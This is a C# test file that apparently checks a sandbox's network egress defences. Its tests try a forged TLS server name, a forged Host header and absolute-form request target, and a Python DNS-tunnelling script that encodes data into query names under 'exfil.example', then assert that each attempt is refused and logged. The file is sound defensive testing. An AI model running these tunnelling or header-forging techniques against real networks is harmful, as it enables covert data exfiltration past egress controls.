namespace Hive.Attack.Tests.Net;

public sealed partial class EgressFromInsideTests
{
    [Test]
    [Defence("the TLS server name must name the host the connection's address was resolved for")]
    public async Task A_forged_TLS_server_name_is_refused()
    {
        var output = await ShAsync(_attacker, $"api=$(getent hosts api.attack.test | cut -d' ' -f1); curl -s -o /dev/null -w '%{{http_code}}' -m 10 --resolve other.attack.test:{_upstream.Https}:$api https://other.attack.test:{_upstream.Https}/public; echo \" rc=$?\"");
        Assert.That(output.Trim(), Does.StartWith("000 rc=").And.Not.EndWith("rc=0"));
        var denied = await DeniedAsync("net.connect", e => Text(e, "rule") == "sni-mismatch");
        Assert.That(Text(denied, "error"), Is.EqualTo("TLS server name 'other.attack.test' does not match the connection's destination api.attack.test"));
    }

    [Test]
    [Defence("the Host header and absolute-form targets must name the connection's destination")]
    public async Task A_forged_Host_header_or_absolute_target_is_refused()
    {
        var (forged, _) = await CurlAsync($"-H 'Host: other.attack.test' http://api.attack.test:{_upstream.Http}/public");
        Assert.That(forged, Is.EqualTo("403 rc=0"));
        var result = await PythonAsync(RawHttp + $$"""

            print(json.dumps(exchange("api.attack.test", {{_upstream.Http}}, b"GET http://other.attack.test/public HTTP/1.1\r\nHost: api.attack.test\r\n\r\n")))
            """);
        Assert.That(result.GetProperty("first").GetProperty("status").GetString(), Is.EqualTo("HTTP/1.1 403 Forbidden"), result.GetRawText());
        await DeniedAsync("net.http", e => Text(e, "error") == "Host header 'other.attack.test' does not match the connection's destination api.attack.test");
        await DeniedAsync("net.http", e => Text(e, "error") == "request target 'http://other.attack.test/public' names another host than the connection's destination api.attack.test");
    }

    [Test]
    [Defence("the sandbox's resolver answers names no rule allows with NXDOMAIN itself; nothing is forwarded, every query is an event")]
    public async Task DNS_tunnelling_gets_NXDOMAIN_and_every_query_is_recorded()
    {
        var result = await PythonAsync("""
            import base64, json, os, socket, struct
            resolver = open("/etc/resolv.conf").read().split("nameserver ")[1].split()[0]
            names, codes = [], []
            for i in range(12):
                label = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()[:63]
                name = "%s.%d.t.exfil.example" % (label, i)
                qtype = 16 if i % 2 else 1  # TXT and A
                q = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", qtype, 1)
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(q, (resolver, 53))
                codes.append(s.recv(512)[3] & 15); names.append(name)
            print(json.dumps({"codes": codes, "names": names}))
            """);
        Assert.That(result.GetProperty("codes").EnumerateArray().Select(c => c.GetInt32()), Is.All.EqualTo(3), "NXDOMAIN for every query");
        var names = result.GetProperty("names").EnumerateArray().Select(n => n.GetString()!).ToList();
        var events = await _controller.WaitForEventsAsync(_attacker, e => names.All(n => e.Any(x => Text(x, "host") == n)), kind: "net.dns", decision: "deny");
        Assert.That(names.Where(n => !events.Any(x => Text(x, "host") == n)), Is.Empty, "every tunnelled query is on record, as asked");
        Assert.That(events.Where(x => names.Contains(Text(x, "host"))).Select(x => Text(x, "rule")), Is.All.StartsWith("no rule allows host"));
    }
}
